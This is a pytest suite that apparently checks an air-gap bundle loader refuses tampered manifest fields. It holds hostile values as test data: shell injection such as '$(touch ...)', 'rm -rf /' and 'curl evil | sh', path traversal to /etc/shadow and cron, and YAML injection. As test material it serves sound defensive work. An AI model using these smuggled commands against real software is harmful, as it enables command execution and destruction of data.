"""A bundle that crossed an air gap on a USB stick may have been edited. Every field of its
bundle.json (and the spec inside it, and the image names its OCI archives carry) is held to a
strict rule when loaded: each hostile value below is refused with an error naming the field,
before anything uses it - and so before any change, `--dry` included (the last test runs the
real CLI)."""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
import tarfile
from io import BytesIO
from pathlib import Path

import pytest

from airnode.bundle import images, manifest, rules
from airnode.paths import ROOT

HEX = "ab" * 32
INJECT = "$(touch /tmp/airnode-pwned)"


def art(kind, name, version, file):
    return {
        "kind": kind,
        "name": name,
        "version": version,
        "file": file,
        "size": 1,
        "sha256": HEX,
        "source": f"https://example.org/{file}",
        "verified_by": "test",
    }


VALID = {
    "format": 1,
    "arch": "amd64",
    "artifacts": [
        art(
            "deb",
            "containerd",
            "1.6.20~ds1-1+deb12u3",
            "containerd/debs/containerd_1.6.20~ds1-1+deb12u3_amd64.deb",
        ),
        art(
            "image",
            "127.0.0.1:5000/airnode/busybox:1",
            "1",
            "images/127.0.0.1_5000_airnode_busybox_1.oci.tar",
        ),
        art("k0s", "k0s", "v1.34.1+k0s.0", "k0s/k0s-v1.34.1+k0s.0-amd64"),
        art(
            "k0s-airgap",
            "k0s airgap images",
            "v1.34.1+k0s.0",
            "k0s/k0s-airgap-bundle-v1.34.1+k0s.0-amd64",
        ),
        art(
            "kube-prometheus",
            "kube-prometheus",
            "v0.18.0",
            "kube-prometheus/kube-prometheus-v0.18.0.tar.gz",
        ),
        art("model", "smollm2:135m", "", "models/smollm2-135m.gguf"),
        art("ollama", "ollama", "v0.13.5", "ollama/v0.13.5/ollama-linux-amd64.tgz"),
    ],
    "images": {
        "kube-prometheus": ["quay.io/prometheus/prometheus:v3.5.0"],
        "model-server": ["docker.io/library/debian:bookworm-slim"],
    },
    "spec": {
        "arch": "amd64",
        "k0s": {"version": "v1.34.1+k0s.0"},
        "containerd": {
            "source": "debian",
            "debs": [
                {
                    "url": "http://deb.debian.org/debian/pool/main/c/containerd/"
                    "containerd_1.6.20~ds1-1%2Bdeb12u3_amd64.deb",
                    "sha256": HEX,
                }
            ],
        },
        "ollama": {"version": "v0.13.5"},
        "kube_prometheus": {"version": "v0.18.0"},
        "model_server": {"image": "docker.io/library/debian:bookworm-slim"},
        "models": [
            {"name": "smollm2:135m", "url": "https://example.org/smollm2-135m.gguf", "sha256": HEX}
        ],
    },
}


def load(tmp_path: Path, data) -> dict:
    (tmp_path / manifest.MANIFEST).write_text(json.dumps(data))
    return manifest.load(tmp_path)


def test_the_valid_manifest_loads(tmp_path):
    assert load(tmp_path, VALID)["artifacts"][6]["version"] == "v0.13.5"


def edit(path: str, value):
    """A copy of VALID with the field at path ('artifacts.6.version') set to value."""
    data = copy.deepcopy(VALID)
    *parents, last = path.split(".")
    node = data
    for p in parents:
        node = node[int(p)] if isinstance(node, list) else node[p]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return data


HOSTILE = [
    # (field edited, value, what the error names)
    ("artifacts.6.version", f"v0.13.5{INJECT}", "artifacts[6].version"),
    ("artifacts.6.version", "../../../var/lib/kubelet", "artifacts[6].version"),
    ("artifacts.6.version", "v0.13.5'; rm -rf / #", "artifacts[6].version"),
    ("artifacts.6.version", "v0.13.5\nrm -rf /", "artifacts[6].version"),
    ("artifacts.6.version", "v" + "9" * 5000, "artifacts[6].version"),
    ("artifacts.2.version", "v1.34.1+k0s.0`id`", "artifacts[2].version"),
    ("artifacts.4.version", "v0.18.0 --server-side=false", "artifacts[4].version"),
    ("artifacts.0.version", "1.6.20;reboot", "artifacts[0].version"),
    ("artifacts.0.name", "containerd runc", "artifacts[0].name"),
    ("artifacts.5.name", f"smollm2{INJECT}", "artifacts[5].name"),
    ("artifacts.5.name", 'Smollm2:135M"\nkind: Secret', "artifacts[5].name"),
    ("artifacts.1.name", "busybox:1' && curl evil | sh '", "artifacts[1].name"),
    ("artifacts.1.name", "registry.example/UPPER/Case:1", "artifacts[1].name"),
    ("artifacts.5.file", "../../../etc/cron.d/x", "artifacts[5].file"),
    ("artifacts.5.file", "/etc/shadow", "artifacts[5].file"),
    ("artifacts.5.file", "models/.hidden.gguf", "artifacts[5].file"),
    ("artifacts.5.file", "models/-rf", "artifacts[5].file"),
    ("artifacts.5.file", "models/a b.gguf", "artifacts[5].file"),
    ("artifacts.5.file", "models//x.gguf", "artifacts[5].file"),
    ("artifacts.5.file", "models/x.gguf\n", "artifacts[5].file"),
    ("artifacts.5.file", "models/" + "x" * 300, "artifacts[5].file"),
    ("artifacts.5.file", "k0s/k0s-v1.34.1+k0s.0-amd64", "artifacts[5].file"),  # two artifacts
    ("artifacts.5.size", -1, "artifacts[5].size"),
    ("artifacts.5.size", "12", "artifacts[5].size"),
    ("artifacts.5.sha256", "AB" * 32, "artifacts[5].sha256"),
    ("artifacts.5.sha256", HEX + " ; id", "artifacts[5].sha256"),
    ("artifacts.5.kind", "script", "artifacts[5].kind"),
    ("artifacts.5.source", "https://example.org/a b", "artifacts[5].source"),
    ("artifacts.5.verified_by", "ok\x1b[2J", "artifacts[5].verified_by"),
    ("artifacts.5.post_install", "sh -c id", "artifacts[5].post_install"),
    ("arch", "amd64; id", "arch"),
    ("hooks", ["id"], "hooks"),
    ("images.kube-prometheus", ["quay.io/x:1 --privileged"], "images.kube-prometheus[0]"),
    ("images.model-server", [f"debian:{INJECT}"], "images.model-server[0]"),
    ("spec.k0s", {"version": f"v1.34.1+k0s.0{INJECT}"}, "k0s.version"),
    ("spec.ollama", {"version": "v0.13.5/../../x"}, "ollama.version"),
    ("spec.model_server", {"image": "debian:bookworm\n  privileged: true"}, "model_server.image"),
    ("spec.models", [{"name": "a'b", "url": "https://e.org/m.gguf"}], "models[0].name"),
    ("spec.models", [{"name": "m", "url": "https://e.org/%2F..%2F..%2Fx.gguf"}], "models[0].url"),
    (
        "spec.containerd",
        {
            "source": "debian",
            "debs": [
                {"url": "http://deb.example/pool/%2F..%2F..%2Fetc%2Fx_1_amd64.deb", "sha256": HEX}
            ],
        },
        "containerd.debs[0].url",
    ),
    (
        "spec.models",
        [
            {"name": "a", "url": "https://e.org/m.gguf"},
            {"name": "b", "url": "https://f.org/m.gguf"},
        ],
        "the file name 'm.gguf'",
    ),
    ("spec.scripts", {"post": "id"}, "scripts: no such section"),
]


@pytest.mark.parametrize(
    "path, value, named", HOSTILE, ids=[f"{p}={str(v)[:30]!r}" for p, v, _ in HOSTILE]
)
def test_a_hostile_field_is_refused_naming_it(tmp_path, path, value, named):
    with pytest.raises(manifest.ManifestError) as e:
        load(tmp_path, edit(path, value))
    assert named in str(e.value)
    assert str(tmp_path / manifest.MANIFEST) in str(e.value)


def oci_archive(path: Path, name: str) -> Path:
    index = {
        "schemaVersion": 2,
        "manifests": [
            {
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "digest": "sha256:" + HEX,
                "size": 1,
                "annotations": {"io.containerd.image.name": name},
            }
        ],
    }
    with tarfile.open(path, "w") as tar:
        raw = json.dumps(index).encode()
        info = tarfile.TarInfo("index.json")
        info.size = len(raw)
        tar.addfile(info, BytesIO(raw))
    return path


def test_an_image_name_from_an_oci_archive_is_held_to_the_reference_grammar(tmp_path):
    good = oci_archive(tmp_path / "good.tar", "registry.example/team/app:1")
    assert images.archive_images(good) == {"registry.example/team/app:1": "sha256:" + HEX}
    bad = oci_archive(tmp_path / "bad.tar", "registry.example/app:1'; touch /tmp/x; echo '")
    with pytest.raises(
        rules.BundleValueError,
        match=r"bad.tar: index.json manifests\[0\].annotations"
        r"\[io.containerd.image.name\]",
    ):
        images.archive_images(bad)


def test_a_dry_run_of_a_hostile_bundle_runs_nothing_it_says(tmp_path):
    """The real CLI, --dry, on this machine (@local: pyinfra's reads really run here), with an
    intact bundle (its sums recomputed, as whoever edited it would) whose Ollama version carries
    a command. Before the field rules, preflight's batched read ran it (seen: the canary file
    appeared, and the run said "nothing was changed"); now the manifest is refused while
    loading, before the node is read at all."""
    canary = tmp_path / "pwned"
    bundle = tmp_path / "bundle"
    tarball = bundle / "ollama/v0.13.5/ollama-linux-amd64.tgz"
    tarball.parent.mkdir(parents=True)
    tarball.write_bytes(b"not really a tarball")
    a = manifest.entry(
        "ollama",
        "ollama",
        f"v0.13.5$(touch {canary})",
        "ollama/v0.13.5/ollama-linux-amd64.tgz",
        bundle,
        None,
        "test",
    )
    manifest.write(bundle, "amd64", [a], {}, {})
    inventory = tmp_path / "inventory.py"
    inventory.write_text('hosts = ["@local"]\n')
    r = subprocess.run(
        [
            str(Path(sys.executable).parent / "pyinfra"),
            "-y",
            "--dry",
            "--data",
            f"bundle_dir={bundle}",
            str(inventory),
            str(ROOT / "deploys/node.py"),
        ],
        capture_output=True,
        text=True,
        cwd="/",
        timeout=300,
        env=dict(os.environ),
    )
    assert not canary.exists()
    assert r.returncode != 0
    assert "artifacts[0].version = 'v0.13.5$(touch" in r.stderr, r.stderr[-3000:]
    assert "is not allowed: an Ollama release tag like v0.13.5" in r.stderr
